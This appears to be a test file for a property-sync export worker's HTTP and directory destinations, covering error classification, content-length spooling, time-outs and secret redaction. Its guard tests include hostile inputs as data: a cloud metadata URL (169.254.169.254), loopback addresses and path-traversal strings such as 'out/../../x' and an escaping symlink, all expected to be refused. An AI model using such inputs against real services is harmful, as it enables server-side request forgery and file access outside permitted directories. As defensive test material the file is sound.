    const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
    expect(err.permanent).toBe(true);
    expect(err.message).toContain('destination headers cannot be read');
    expect(err.message).not.toContain('s3cret');
    expect(received.has(new URL((atm.destination as { url: string }).url).pathname)).toBe(false);
  });

  it('POSTs when told to', async () => {
    const atm = automation('property', { destination: { type: 'http', url: `${base}/ok/${randomUUID()}`, method: 'POST' } });
    await exportAutomation(deps(), { automation: atm, integration: A, fileName: 'plain.csv' });
    const req = received.get(new URL((atm.destination as { url: string }).url).pathname)!;
    expect(req.method).toBe('POST');
    expect(req.headers['content-disposition']).toBe('attachment; filename="plain.csv"');
  });

  it.each([
    [400, true],
    [403, true],
    [404, true],
    [408, false],
    [411, true],
    [429, false],
    [500, false],
    [501, true],
    [503, false],
    [505, true],
  ])('HTTP %i: permanent %s', async (status, permanent) => {
    const atm = automation('lease', { destination: { type: 'http', url: `${base}/e${status}/${randomUUID()}` } });
    const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
    expect(err).toMatchObject({ permanent, status, message: expect.stringContaining(`HTTP ${status}: nope: ${status} from the destination`) });
    // A 501 (or a 411 Length Required) may be a refusal of the chunked body: the message says what to do.
    expect(err.message.endsWith(' (the destination may not accept a chunked upload: set "content_length": true on the destination)')).toBe(
      status === 501 || status === 411,
    );
  });

  it('a destination that says 200 before it has the whole file and hangs up is a permanent failure that says so', async () => {
    // A file larger than what the connection buffers, so that it is still being sent when the destination hangs up.
    const big = await bigIntegration();
    const atm = automation('property', { destination: { type: 'http', url: `${base}/early/${randomUUID()}` } }, big);
    const err = await failure(exportAutomation(deps(), { automation: atm, integration: big, fileName: 'x.csv' }));
    expect(err).toMatchObject({
      permanent: true,
      status: 200,
      message: expect.stringMatching(
        /^the destination answered HTTP 200 before it had the whole file, then closed the connection \(.+\): the file did not arrive whole$/,
      ),
    });
  });

  it('a destination that never answers hits the time-out (transient)', async () => {
    const atm = automation('lease', { destination: { type: 'http', url: `${base}/hang/${randomUUID()}` } });
    const started = Date.now();
    const err = await failure(exportAutomation(deps({ timeoutMs: 1_000 }), { automation: atm, integration: A, fileName: 'x.csv' }));
    expect(err).toMatchObject({ permanent: false, message: expect.stringContaining('timed out') });
    expect(Date.now() - started).toBeLessThan(5_000);
    // The whole file went out before the wait.
    expect(parseCsv(received.get(new URL((atm.destination as { url: string }).url).pathname)!.body)).toHaveLength(6);
  });

  it('a refused connection is transient', async () => {
    const closed = http.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const atm = automation('lease', { destination: { type: 'http', url: `http://127.0.0.1:${port}/x` } });
    const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
    expect(err).toMatchObject({ permanent: false, message: expect.stringContaining('ECONNREFUSED') });
  });

  it('goes through the resolver (test mode reaches loopback)', async () => {
    const port = new URL(base).port;
    const atm = automation('lease', { destination: { type: 'http', url: `http://exports.example.test:${port}/ok/${randomUUID()}` } });
    const r = await exportAutomation(deps({ resolver: toLoopback }), { automation: atm, integration: A, fileName: 'x.csv' });
    expect(r.records).toBe(5);
  });

  it('a live-mode integration may not reach loopback, private or link-local addresses, nor plain http (permanent)', async () => {
    const L: Ref = { id: live.integrationId, organizationId: live.organizationId, mode: 'live' };
    const port = new URL(base).port;
    const before = received.size;
    for (const [url, why] of [
      [`https://exports.example.test:${port}/ok/${randomUUID()}`, 'resolves to 127.0.0.1'],
      [`https://127.0.0.1:${port}/ok/${randomUUID()}`, '127.0.0.1 is a special-purpose address (loopback)'],
      [`https://169.254.169.254/latest/meta-data`, 'link-local'],
      [`http://exports.example.test:${port}/ok/${randomUUID()}`, 'https://'],
    ]) {
      const atm = automation('lease', { destination: { type: 'http', url: url! } }, L);
      const err = await failure(exportAutomation(deps({ resolver: toLoopback }), { automation: atm, integration: L, fileName: 'x.csv' }));
      expect(err).toMatchObject({ permanent: true, message: expect.stringContaining(why!) });
    }
    expect(received.size).toBe(before);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// HTTP destination with content_length: spooled to a temporary file, sent with its length
// ---------------------------------------------------------------------------------------------------------------

describe('HTTP destination with content_length', () => {
  /** TMPDIR while these tests run (os.tmpdir() reads it at each call): the temporary files go here and nowhere else. */
  let spool: string;
  let tmpdirBefore: string | undefined;
  /** A destination that refuses chunked bodies as S3 presigned URLs do, and takes a body with a content-length. */
  let s3: http.Server;
  let s3Base: string;
  /** What it received with a content-length: the request, and the temporary files as they were when it arrived. */
  const stored = new Map<
    string,
    { method: string; headers: http.IncomingHttpHeaders; body: Buffer; spooled: { mode: number; files: { mode: number; size: number }[] }[] }
  >();
  const S3_CHUNKED_REFUSAL =
    '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>NotImplemented</Code><Message>A header you provided implies functionality that is not implemented</Message><Header>Transfer-Encoding</Header><RequestId>4442587FB7D0A2F9</RequestId><HostId>abc</HostId></Error>';

  beforeAll(async () => {
    spool = await mkdtemp(path.join(os.tmpdir(), 'propsync-spool-test-'));
    tmpdirBefore = process.env.TMPDIR;
    process.env.TMPDIR = spool;
    s3 = http.createServer((req, res) => {
      const key = new URL(req.url ?? '/', 'http://x').pathname;
      // S3 answers on the headers; this stand-in answers once it has read the body. Answering while the client still
      // sends races the body's end against the answer on the socket (the client then sometimes sees EPIPE or
      // ECONNRESET rather than the 501, which a refusal on the headers is tested for elsewhere).
      if (req.headers['transfer-encoding'] !== undefined) {
        req.on('error', () => {});
        req.resume();
        return void req.once('end', () => {
          res.writeHead(501, { 'content-type': 'application/xml' });
          res.end(S3_CHUNKED_REFUSAL);
        });
      }
      if (key.startsWith('/deny/')) {
        res.writeHead(403, { 'content-type': 'application/xml', connection: 'close' });
        return void res.end('<Error><Code>AccessDenied</Code></Error>');
      }
      // The temporary file is whole on disk when the request arrives.
      const spooled = readdirSync(spool).map((dir) => ({
        mode: statSync(path.join(spool, dir)).mode & 0o777,
        files: readdirSync(path.join(spool, dir)).map((f) => {
          const st = statSync(path.join(spool, dir, f));
          return { mode: st.mode & 0o777, size: st.size };
        }),
      }));
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        stored.set(key, { method: req.method ?? '', headers: req.headers, body: Buffer.concat(chunks), spooled });
        res.end('stored');
      });
    });
    await new Promise<void>((resolve) => s3.listen(0, '127.0.0.1', resolve));
    s3Base = `http://127.0.0.1:${(s3.address() as AddressInfo).port}`;
  });

  afterAll(async () => {
    if (tmpdirBefore === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = tmpdirBefore;
    s3?.closeAllConnections();
    await new Promise<void>((resolve) => (s3 ? s3.close(() => resolve()) : resolve()));
    if (spool) await rm(spool, { recursive: true, force: true });
  });

  const spooledTo = (url: string, over: Record<string, unknown> = {}) => ({ type: 'http' as const, url, content_length: true, ...over });

  it('sends the same bytes with a content-length and no transfer-encoding, from a private temporary file removed afterwards', async () => {
    const chunked = automation('lease', {});
    const streamed = await exportAutomation(deps(), { automation: chunked, integration: A, fileName: 'leases.csv' });
    const chunkedBody = received.get(new URL((chunked.destination as { url: string }).url).pathname)!.body;

    const key = `/bucket/${randomUUID()}.csv`;
    const atm = automation('lease', { destination: spooledTo(`${s3Base}${key}?X-Amz-Signature=sig-0f9e8d`, { method: 'POST' }) });
    atm.destinationHeaders = sealAutomationHeaders(ring, atm.id, { Authorization: 'Bearer s3cret', 'Content-Type': 'text/csv' });
    const r = await exportAutomation(deps(), { automation: atm, integration: A, fileName: 'leases.csv' });
    const req = stored.get(key)!;
    expect(req.method).toBe('POST');
    expect(req.headers['content-length']).toBe(String(req.body.length));
    expect(req.headers['transfer-encoding']).toBeUndefined();
    expect(req.headers).toMatchObject({
      'content-type': 'text/csv',
      authorization: 'Bearer s3cret',
      'content-disposition': 'attachment; filename="leases.csv"',
    });
    // The very bytes the chunked body carries.
    expect(req.body.equals(chunkedBody)).toBe(true);
    expect(r).toEqual(streamed);
    expect(r.bytes).toBe(req.body.length);
    // While it was sent: one directory of its own (0700) holding the whole file (0600); afterwards, nothing.
    expect(req.spooled).toEqual([{ mode: 0o700, files: [{ mode: 0o600, size: req.body.length }] }]);
    expect(await readdir(spool)).toEqual([]);
  });

  it('a destination that refuses a chunked body (S3: 501 naming Transfer-Encoding) is a permanent failure that says to set content_length', async () => {
    const url = `${s3Base}/bucket/${randomUUID()}.csv?X-Amz-Signature=sig-7a6b5c`;
    const atm = automation('lease', { destination: { type: 'http', url } });
    atm.destinationHeaders = sealAutomationHeaders(ring, atm.id, { 'X-Amz-Security-Token': 'tok-secret-1' });
    const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
    expect(err).toMatchObject({ permanent: true, status: 501 });
    expect(err.message).toMatch(/^the destination answered HTTP 501: <\?xml .*<Header>Transfer-Encoding<\/Header>/);
    expect(err.message.endsWith(' (the destination may not accept a chunked upload: set "content_length": true on the destination)')).toBe(true);
    for (const secret of ['sig-7a6b5c', 'tok-secret-1', s3Base]) expect(err.message).not.toContain(secret);
    // The same destination takes the file with its length.
    atm.destination = spooledTo(url);
    const r = await exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' });
    expect(r.records).toBe(5);
  });

  it('refusals are classified as without it, with no hint, and leave no temporary file', async () => {
    for (const [status, permanent] of [
      [403, true],
      [404, true],
      [429, false],
      [503, false],
    ] as const) {
      const atm = automation('lease', { destination: spooledTo(`${base}/e${status}/${randomUUID()}`) });
      const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
      expect(err).toMatchObject({ permanent, status, message: `the destination answered HTTP ${status}: nope: ${status} from the destination` });
      // It was sent with its length.
      const req = received.get(new URL((atm.destination as { url: string }).url).pathname)!;
      expect(req.headers['content-length']).toBe(String(req.body.length));
      expect(await readdir(spool)).toEqual([]);
    }
    // A refusal on the headers, before the body is read.
    const denied = automation('lease', { destination: spooledTo(`${s3Base}/deny/${randomUUID()}`) });
    const err = await failure(exportAutomation(deps(), { automation: denied, integration: A, fileName: 'x.csv' }));
    expect(err).toMatchObject({ permanent: true, status: 403, message: 'the destination answered HTTP 403: <Error><Code>AccessDenied</Code></Error>' });
    expect(await readdir(spool)).toEqual([]);
  });

  it('a destination that says 200 before it has the whole file and hangs up is still a permanent failure that says so', async () => {
    const big = await bigIntegration();
    const atm = automation('property', { destination: spooledTo(`${base}/early/${randomUUID()}`) }, big);
    const err = await failure(exportAutomation(deps(), { automation: atm, integration: big, fileName: 'x.csv' }));
    expect(err).toMatchObject({
      permanent: true,
      status: 200,
      message: expect.stringMatching(
        /^the destination answered HTTP 200 before it had the whole file, then closed the connection \(.+\): the file did not arrive whole$/,
      ),
    });
    expect(await readdir(spool)).toEqual([]);
  });

  it('the time-out, a cancellation and the SSRF guard end it as without it, leaving no temporary file', async () => {
    // No answer: the whole file went out, then the time-out (transient).
    const hang = automation('lease', { destination: spooledTo(`${base}/hang/${randomUUID()}`) });
    const timedOut = await failure(exportAutomation(deps({ timeoutMs: 1_000 }), { automation: hang, integration: A, fileName: 'x.csv' }));
    expect(timedOut).toMatchObject({ permanent: false, message: expect.stringContaining('timed out') });
    expect(received.get(new URL((hang.destination as { url: string }).url).pathname)!.headers['content-length']).toBeDefined();
    expect(await readdir(spool)).toEqual([]);

    // Cancelled while the file is being written.
    await expectCancelledOnFirstRecords(automation('resident', { destination: spooledTo(`${s3Base}/bucket/${randomUUID()}`) }, A3), A3);
    expect(await readdir(spool)).toEqual([]);

    // Refused as written (nothing spooled), and as resolved (after the file was written).
    const L: Ref = { id: live.integrationId, organizationId: live.organizationId, mode: 'live' };
    const port = new URL(base).port;
    for (const [url, why] of [
      [`https://127.0.0.1:${port}/ok/${randomUUID()}`, 'loopback'],
      [`https://exports.example.test:${port}/ok/${randomUUID()}`, 'resolves to 127.0.0.1'],
    ]) {
      const atm = automation('lease', { destination: spooledTo(url!) }, L);
      const refused = await failure(exportAutomation(deps({ resolver: toLoopback }), { automation: atm, integration: L, fileName: 'x.csv' }));
      expect(refused).toMatchObject({ permanent: true, message: expect.stringContaining(why!) });
      expect(await readdir(spool)).toEqual([]);
    }
  });

  it('a disk that cannot take the temporary file is a transient failure that says so', async () => {
    // ENOSPC while writing it (/dev/full refuses every write so).
    fsFaults.writeTo = '/dev/full';
    try {
      const atm = automation('lease', { destination: spooledTo(`${s3Base}/bucket/${randomUUID()}`) });
      const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
      expect(err).toMatchObject({ permanent: false, status: undefined });
      expect(err.message).toBe(
        `the export's temporary file could not be written in the worker's temporary directory (TMPDIR; ENOSPC (write)): with "content_length": true the worker needs free space there for the whole file`,
      );
      expect(stored.has(new URL((atm.destination as { url: string }).url).pathname)).toBe(false);
    } finally {
      fsFaults.writeTo = undefined;
    }
    expect(await readdir(spool)).toEqual([]);

    // No temporary directory at all.
    const missing = path.join(spool, 'missing');
    process.env.TMPDIR = missing;
    try {
      const atm = automation('lease', { destination: spooledTo(`${s3Base}/bucket/${randomUUID()}`) });
      const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'x.csv' }));
      expect(err).toMatchObject({
        permanent: false,
        message:
          'the export\'s temporary file could not be created in the worker\'s temporary directory (TMPDIR; ENOENT (mkdtemp)): with "content_length": true the worker needs free space there for the whole file',
      });
    } finally {
      process.env.TMPDIR = spool;
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Directory destination
// ---------------------------------------------------------------------------------------------------------------

describe('directory destination', () => {
  it('the file appears complete under its name, and no temporary file is left', async () => {
    const dir = `out/${randomUUID()}`;
    await mkdir(path.join(root, dir));
    const atm = automation('lease', { destination: { type: 'directory', path: dir } });
    const r = await exportAutomation(deps(), { automation: atm, integration: A, fileName: 'leases-arun_1.csv' });
    expect(await readdir(path.join(root, dir))).toEqual(['leases-arun_1.csv']);
    const body = await readFile(path.join(root, dir, 'leases-arun_1.csv'));
    expect(body.length).toBe(r.bytes);
    const [header, ...rows] = parseCsv(body);
    expect(header).toEqual(expectedHeader('lease'));
    expect(rows.map((row) => cellsOf('lease', row))).toEqual((await apiRecords('lease', {})).map((x) => expectedRow('lease', x)));
  });

  it('refuses a path out of the export root, through .. or a symbolic link (permanent), writing nothing', async () => {
    const outside = await mkdtemp(path.join(os.tmpdir(), 'propsync-outside-'));
    try {
      await symlink(outside, path.join(root, 'link-out'));
      for (const p of ['../', `../${path.basename(outside)}`, 'out/../../x', outside, 'link-out']) {
        const atm = automation('unit', { destination: { type: 'directory', path: p } });
        const err = await failure(exportAutomation(deps(), { automation: atm, integration: A, fileName: 'u.csv' }));
        expect(err).toMatchObject({ permanent: true, message: expect.stringContaining('outside the export root') });
      }
      expect(await readdir(outside)).toEqual([]);
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });

  it('a directory that does not exist, or a file, is permanent', async () => {
    const missing = automation('unit', { destination: { type: 'directory', path: 'nope/never' } });
    expect(await failure(exportAutomation(deps(), { automation: missing, integration: A, fileName: 'u.csv' }))).toMatchObject({
      permanent: true,
      message: expect.stringContaining('does not exist'),
    });
    // It names the destination as configured, under EXPORT_ROOT, and no path of the server's: the message is also the
    // AUTOMATION_FAILED event's, which the organization's receivers get.
    expect((await failure(exportAutomation(deps(), { automation: missing, integration: A, fileName: 'u.csv' }))).message).toBe(
      `the destination directory "nope/never" does not exist in the export root (EXPORT_ROOT); create it there, or change the automation's destination`,
    );
    const dir = `out/${randomUUID()}`;
    await mkdir(path.join(root, dir));
    await exportAutomation(deps(), { automation: automation('unit', { destination: { type: 'directory', path: dir } }), integration: A, fileName: 'f.csv' });
    const file = automation('unit', { destination: { type: 'directory', path: `${dir}/f.csv` } });
    expect(await failure(exportAutomation(deps(), { automation: file, integration: A, fileName: 'u.csv' }))).toMatchObject({ permanent: true });
    // A path that cannot be resolved (a link to itself: ELOOP, as EACCES on a directory on the way) is permanent too.
    const loop = `loop-${randomUUID()}`;
    await symlink(path.join(root, loop), path.join(root, loop));
    const looping = automation('unit', { destination: { type: 'directory', path: loop } });
    expect(await failure(exportAutomation(deps(), { automation: looping, integration: A, fileName: 'u.csv' }))).toMatchObject({
      permanent: true,
      message: expect.stringContaining('cannot be reached: ELOOP'),
    });
  });

  it('an aborted export stops and leaves no file behind', async () => {
    const dir = `out/${randomUUID()}`;
    await mkdir(path.join(root, dir));
    await expectCancelledOnFirstRecords(automation('resident', { destination: { type: 'directory', path: dir } }, A3), A3);
    expect(await readdir(path.join(root, dir))).toEqual([]);
  });
});
